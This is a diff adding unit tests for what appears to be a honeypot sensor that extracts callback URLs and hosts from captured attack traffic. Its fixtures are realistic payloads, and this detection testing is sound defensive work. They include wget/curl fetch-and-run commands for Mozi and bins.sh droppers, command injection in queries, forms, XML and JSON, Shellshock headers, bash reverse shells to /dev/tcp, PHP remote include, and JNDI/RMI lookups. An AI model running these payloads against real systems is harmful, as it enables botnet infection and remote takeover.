@@ -156,3 +156,102 @@ describe("a lookup of Log4j", () => {
     ]);
   });
 });
+
+describe("a request names whom to call", () => {
+  const MOZI = "http://45.0.0.1:8088/Mozi.m";
+
+  it.each<[what: string, http: NonNullable<CallbackSource["http"]>, ...expected: string[]]>([
+    ["a query with + for blanks", { path: "/shell", query: "cd+/tmp;wget+http:/\\/45.0.0.1/bins.sh;sh+bins.sh" }, BINS],
+    [
+      "a query that is encoded",
+      { path: "/shell", query: "cd%20/tmp;%20wget%20http:/%5C/45.0.0.1/bins.sh%20-O%20a" },
+      BINS,
+    ],
+    ["a path", { path: "/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://45.0.0.1/bins.sh" }, BINS],
+    ["a parameter", { path: "/", query: "s=index/call&vars[1][]=wget http://45.0.0.1/bins.sh" }, BINS],
+    ["letters that are encoded", { path: "/", query: "c=%77get%20http%3A%2F%2F45.0.0.1%2Fbins.sh" }, BINS],
+    [
+      "a form",
+      { body: "ping=1&dest_host=``;wget+http://45.0.0.1:8088/Mozi.m+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0" },
+      MOZI,
+    ],
+    [
+      "a tag of XML",
+      { body: "<NewStatusURL>$(/bin/busybox wget -g 45.0.0.1 -l /tmp/x -r /bins.sh; sh /tmp/x)</NewStatusURL>" },
+      BINS,
+    ],
+    ["references of XML", { body: "<string>sh -c &quot;wget http://45.0.0.1/bins.sh&quot; &amp;</string>" }, BINS],
+    ["a text of JSON", { body: '{"command":"sh -c \\"wget\\u0020http://45.0.0.1/bins.sh\\""}' }, BINS],
+    [
+      "the words of a container",
+      { body: '{"Cmd":["chroot","/mnt","wget","-q","http://45.0.0.1/bins.sh"],"Image":"a"}' },
+      BINS,
+    ],
+    ["JSON that was cut", { body: '{"Cmd":["sh","-c","curl cdn.evil.example/x|bash' }, "http://cdn.evil.example:80/x"],
+    ["a call of PHP", { body: "<?php include('http://45.0.0.1/bins.sh'); ?>" }, BINS],
+    [
+      "a class that is looked up",
+      { body: '{"dataSourceName":"rmi://evil.example:1099/Exploit"}' },
+      "rmi://evil.example:1099/Exploit",
+    ],
+    ["a user agent", { user_agent: '() { :; }; /bin/bash -c "wget http://45.0.0.1/bins.sh"' }, BINS],
+    [
+      "a header",
+      { header_lines: ["Cookie: x=() { :; }; /bin/bash -i >& /dev/tcp/45.0.0.1/4444 0>&1"] },
+      "tcp://45.0.0.1:4444",
+    ],
+    ["a reverse shell", { query: "c=bash+-i+>%26+/dev/tcp/45.0.0.1/4444+0>%261" }, "tcp://45.0.0.1:4444"],
+  ])("in %s", (_what, http, ...expected) => {
+    expect(told({ http })).toEqual(expected);
+  });
+
+  it.each<[what: string, http: NonNullable<CallbackSource["http"]>]>([
+    ["a crawler's address", { user_agent: "Mozilla/5.0 (compatible; Bot/1.0; +https://bot.example/)" }],
+    ["a client's name", { user_agent: "curl/7.54.0" }],
+    ["a client's name with its home", { user_agent: "Wget/1.21 (https://wget.example/)" }],
+    ["a referrer", { referer: "https://search.example/?q=wget+http%3A%2F%2F45.0.0.1%2Fx" }],
+    ["an origin", { header_lines: ["Origin: https://evil.example", "X-Forwarded-For: 45.0.0.1"] }],
+    ["a request to a proxy", { path: "http://evil.example/azenv.php" }],
+    ["a parameter that is a URL", { path: "/proxy", query: "url=http://evil.example/x.txt" }],
+    ["a file of that name", { path: "/wget.sh" }],
+    ["a private address", { body: "todo=syscmd&cmd=wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/x;sh+x" }],
+    ["defanged text", { body: "cmd=wget hxxp://45.0.0.1/x; curl evil[.]example/x" }],
+  ])("but not in %s", (_what, http) => {
+    expect(told({ http })).toEqual([]);
+  });
+});
+
+describe("what a sensor downloaded", () => {
+  const sha256 = "ab".repeat(32);
+
+  it("is a callback with the digest of the same record", () => {
+    expect(find({ urls: ["http://45.0.0.1/bins.sh"], payload_sha256: [sha256] })).toEqual([
+      { host: "45.0.0.1", port: 80, scheme: "http", path: "/bins.sh", text: "http://45.0.0.1/bins.sh", sha256 },
+    ]);
+  });
+
+  it("has no digest where it could be that of another file", () => {
+    const urls = ["http://45.0.0.1/a", "ftp://evil.example/b"];
+    expect(find({ urls, payload_sha256: [sha256] }).map((callback) => callback.sha256)).toEqual(["", ""]);
+  });
+});
+
+it("shows the words around the host", () => {
+  const command = `${"true;".repeat(190)}wget http://45.0.0.1/x;${"true;".repeat(10)}`;
+  expect(find({ commands: [command] })[0]?.text).toBe(command);
+  const body = `${"a=b&".repeat(500)}c=wget+http://45.0.0.1/x&${"a=b&".repeat(500)}`;
+  const text = find({ http: { body } })[0]?.text ?? "";
+  expect(text).toHaveLength(1_024);
+  expect(text).toContain("c=wget+http://45.0.0.1/x&a=b");
+});
+
+it("tells of the same call once, however often it is named", () => {
+  const line = "${jndi:ldap://evil.example/a}";
+  const header_lines = Array.from({ length: 40 }, (_, index) => `X-${index}: ${line}`);
+  expect(told({ http: { header_lines } })).toEqual(["ldap://evil.example:389/a"]);
+});
+
+it("finds at most 64", () => {
+  const commands = Array.from({ length: 60 }, (_, index) => `wget http://45.0.1.${index}/a http://45.0.2.${index}/a`);
+  expect(find({ commands })).toHaveLength(64);
+});
